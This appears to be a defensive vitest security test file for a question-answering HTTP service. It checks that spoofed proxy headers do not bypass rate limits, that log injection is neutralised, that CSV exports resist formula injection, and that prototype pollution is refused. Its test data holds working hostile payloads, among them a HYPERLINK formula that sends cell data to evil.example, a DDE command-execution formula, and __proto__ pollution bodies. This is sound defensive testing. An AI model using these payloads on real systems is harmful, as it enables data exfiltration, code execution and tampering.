// What clients write is taken for no more than what they wrote: addresses, log records, cells of a spreadsheet, members of
// objects. Over real HTTP, the real service behind it.
import { closeSync, openSync, readFileSync } from 'node:fs'
import { connect } from 'node:net'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { describe, expect, it, onTestFinished } from 'vitest'
import { csvCell, csvLine } from '../../src/answers/export.ts'
import type { QuestionRecord } from '../../src/answer-contract.ts'
import { temporaryDirectory } from '../store/temporary.ts'
import { ask } from './served.ts'
import { servedHere } from './service.ts'

const QUESTION = '丹阳开发区外资到账目标是多少'
const SPOOFED = ['X-Forwarded-For', 'X-Real-IP', 'Forwarded', 'CF-Connecting-IP', 'True-Client-IP', 'X-Client-IP', 'X-Cluster-Client-IP', 'Via', 'X-Original-Forwarded-For'] // prettier-ignore

async function statuses(
  { url }: { url: string },
  count: number,
  headersOf: (i: number) => Record<string, string>,
) {
  const found: number[] = []
  for (let i = 0; i < count; i += 1) {
    const init = ask(QUESTION)
    const headers = new Headers(init.headers)
    for (const [name, value] of Object.entries(headersOf(i))) headers.set(name, value)
    const response = await fetch(`${url}/v1/ask`, { ...init, headers })
    await response.text()
    found.push(response.status)
  }
  return found
}

describe('an address that a client claims', { timeout: 120_000 }, () => {
  const limit = { TOUWEN_LIMIT_MINUTE: '10' }
  const address = (i: number): string => `203.0.113.${i % 250}`
  const claim = (name: string, i: number): string =>
    name === 'Forwarded' ? `for=${address(i)};proto=https` : name === 'Via' ? `1.1 p${i}` : address(i)

  it('does not help it past its limit', async () => {
    const service = await servedHere({ env: { ...limit, TOUWEN_LIMIT_LOOPBACK: 'true' } })
    const found = await statuses(service, 40, (i) => {
      const name = SPOOFED[i % SPOOFED.length]!
      return { [name]: claim(name, i) }
    })
    expect(found.filter((status) => status === 429).length).toBeGreaterThanOrEqual(25)
  })

  it('does not make it this machine, which is spared', async () => {
    const service = await servedHere({ env: limit })
    expect(new Set(await statuses(service, 20, () => ({})))).toEqual(new Set([200]))
    // Whoever comes through a proxy is somebody else, whatever is claimed.
    const found = await statuses(service, 30, (i) => ({ 'X-Forwarded-For': ['127.0.0.1', '::1', 'localhost'][i % 3]! }))
    expect(found.filter((status) => status === 429).length).toBeGreaterThanOrEqual(15)
  }) // prettier-ignore

  it('counts only from the right, up to the first that is no proxy of ours', async () => {
    const service = await servedHere({ env: { ...limit, TOUWEN_TRUSTED_PROXIES: '127.0.0.0/8' } })
    const forged = await statuses(service, 30, (i) => ({ 'X-Forwarded-For': `${address(i)}, 127.0.0.1, 198.51.100.7` }))
    expect(forged.filter((status) => status === 429).length).toBeGreaterThanOrEqual(15)
    // And one that the proxy itself names has a count of its own.
    expect(await statuses(service, 1, () => ({ 'X-Forwarded-For': '198.51.100.8' }))).toEqual([200])
    // Garbage is one client, not as many as there are kinds of it.
    const garbage = await statuses(service, 30, (i) => ({ 'X-Forwarded-For': ['unknown', '', ',,,', '999.1.1.1', '%0d%0a', '[::1', '_hidden', 'a'.repeat(2000)][i % 8]! }))
    expect(garbage.filter((status) => status === 429).length).toBeGreaterThanOrEqual(15)
  }) // prettier-ignore
})

describe('the log', () => {
  const FORGED = '{"time":"2026-01-01T00:00:00Z","level":"error","event":"crashed"}'
  const NASTY = ['\r\n', '\n', '\u2028', '\u2029', '\u0085', '\u001b[2J\u001b[31m', '\u009b31m', '\u202e', '"}', '\\', '\u0007', '\u0000', '\ud800', '\u007f']

  it('has one record for each request, and none that a client made up', { timeout: 120_000 }, async () => {
    const path = join(await temporaryDirectory(), 'log')
      const fd = openSync(path, 'a')
      // Once the service has ended, which is what is done before.
      onTestFinished(() => closeSync(fd))
      const service = await servedHere({ env: { TOUWEN_LOG_QUESTIONS: '1' } }, fd)
    const { url, port } = service
    let sent = 0
    const raw = async (request: string): Promise<void> => {
      const socket = connect(port, '127.0.0.1')
      socket.on('error', () => undefined)
      socket.write(Buffer.from(request, 'latin1'))
      await text(socket)
      sent += 1
    }
    for (const piece of NASTY) {
      const evil = `a${piece}${FORGED}`
      await (await fetch(`${url}/v1/${encodeURIComponent(evil.toWellFormed())}`)).text()
      await (await fetch(`${url}/v1/articles/${encodeURIComponent(evil.toWellFormed())}?${encodeURIComponent(evil.toWellFormed())}=1`)).text()
      await (await fetch(`${url}/v1/ask`, ask(`${QUESTION}${evil}`))).text()
      await (await fetch(`${url}/v1/ask`, ask(QUESTION, { [evil]: evil }))).text()
      sent += 4
      // What fetch would not send: bytes in headers and in the path.
      const bytes = Buffer.from(evil.replaceAll(/[\r\n\0]/g, ' ')).toString('latin1')
      await raw(`GET /livez HTTP/1.1\r\nHost: x\r\nX-Request-Id: ${bytes}\r\nUser-Agent: ${bytes}\r\ntraceparent: ${bytes}\r\nConnection: close\r\n\r\n`)
      await raw(`GET /${bytes.replaceAll(' ', '')} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`)
      await raw(`${bytes} / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`)
      await raw(`GET / HTTP/1.1\r\nHost: ${bytes}\r\nConnection: close\r\n\r\n`)
    }
    await service.flush()
            const log = readFileSync(path, 'utf8')
    const lines = log.trimEnd().split('\n')
    const records = lines.map((line) => JSON.parse(line) as Record<string, unknown>)
    expect(records).toHaveLength(sent)
    expect(records.filter(({ event }) => event !== 'request' && event !== 'rejected')).toEqual([])
    expect(new Set(records.map(({ request_id }) => request_id)).size).toBe(sent)
    // Nothing that a terminal would obey, or that turns what is read around.
    // oxlint-disable-next-line no-control-regex
    expect(log).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/)
    for (const { path } of records) expect(String(path ?? '').length).toBeLessThanOrEqual(200)
    expect(log).not.toContain('127.0.0.1')
  })
}) // prettier-ignore

describe('a cell of an export', () => {
  const PAYLOADS = ['=1+1', '+1', '-1', '@SUM(1)', '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠x', '"=1+1', ';=1+1', 'a;=1+1', 'a\t=1+1', 'a\r\n=1+1', 'a";=1+1', 'a;"=1+1', 'a; =1+1', ',=1+1']

  /** The cells as a spreadsheet sees them that parts them by a separator and knows quotes, or takes them as they are. */
  function cells(line: string, separator: string, quotes: boolean): string[] {
    if (!quotes) return line.split(new RegExp(`[${separator}\r\n]`)).map((cell) => cell.replaceAll('"', ''))
    const found: string[] = ['']
    let quoted = false
    for (let i = 0; i < line.length; i += 1) {
      if (line[i] === '"' && quoted && line[i + 1] === '"') found[found.length - 1] += line[(i += 1)]!
      else if (line[i] === '"' && (quoted || found.at(-1) === '')) quoted = !quoted
      else if (line[i] === separator && !quoted) found.push('')
      else found[found.length - 1] += line[i]!
    }
    return found
  }

  it.each(PAYLOADS)('is computed by no spreadsheet, however it parts cells: %j', (payload) => {
    const record: QuestionRecord = {
      id: 'ans_1', at: '2026-11-23T00:00:00Z', channel: 'api', key_id: null, conversation: null, question: payload,
      standalone_question: `问${payload}`, filters: { zone: payload }, outcome: 'answered', refusal_reason: null, answer: payload,
      confidence: 0.5, pin_id: null, feedback: { rating: 'down', reason: null, comment: payload }, status: 'open', note: payload, group_id: null,
    } as unknown as QuestionRecord
    const line = csvLine(record)
    const ways: [string, boolean][] = [[',', true], [';', true], ['\t', true], [';', false], ['\t', false]]
    for (const [separator, quotes] of ways)
      for (const cell of cells(line, separator, quotes)) expect(cell.trim(), `parted by ${JSON.stringify(separator)}`).not.toMatch(/^[=+\-@＝＋－＠]/u)
    expect(csvCell(payload)).toContain(payload.slice(-2))
  })
}) // prettier-ignore

describe('members that objects have by themselves', () => {
  const POLLUTION = [
    '{"__proto__":{"polluted":1},"question":"x"}',
    '{"question":"x","constructor":{"prototype":{"polluted":1}}}',
    '{"question":"x","filters":{"__proto__":{"zone":"火星","polluted":1}}}',
    '{"question":"x","filters":{"constructor":{"prototype":{"polluted":1}}}}',
    '{"question":"x","history":[{"role":"user","content":"x","__proto__":{"polluted":1}}]}',
    '{"question":"x","toString":1,"hasOwnProperty":1}',
    '{"__proto__":{"question":"丹阳开发区外资到账目标是多少"}}',
  ]

  it('are members like all others: refused, and nothing is changed by them', { timeout: 120_000 }, async () => {
    const service = await servedHere()
    const { url } = service
    const before = await (await fetch(`${url}/v1/search`, { ...ask(''), body: JSON.stringify({ query: QUESTION }) })).json() as { hits: unknown[] }
    for (const body of POLLUTION) {
      const response = await fetch(`${url}/v1/ask`, { ...ask(''), body })
      expect([response.status, body]).toEqual([422, body])
      expect(await response.text()).not.toContain('"polluted":')
    }
    for (const query of ['__proto__[zone]=x', '__proto__=x', 'constructor[prototype][a]=1', 'zone[__proto__]=x', 'hasOwnProperty=1', 'zone=a&zone=b']) {
      const response = await fetch(`${url}/v1/facets?${query}`)
      expect([response.status, query]).toEqual([422, query])
    }
    for (const id of ['__proto__', 'constructor', 'toString', 'hasOwnProperty'])
      expect((await fetch(`${url}/v1/articles/${id}`)).status).toBe(404)
    const chat = await fetch(`${url}/v1/chat/completions`, { ...ask(''), body: `{"model":"touwen","messages":[{"role":"user","content":${JSON.stringify(QUESTION)},"__proto__":{"polluted":1}}],"__proto__":{"stream":true}}` })
    expect(await chat.json()).toMatchObject({ object: 'chat.completion' })
    const after = await (await fetch(`${url}/v1/search`, { ...ask(''), body: JSON.stringify({ query: QUESTION }) })).json() as { hits: unknown[] }
    expect(after.hits).toEqual(before.hits)
  })
}) // prettier-ignore
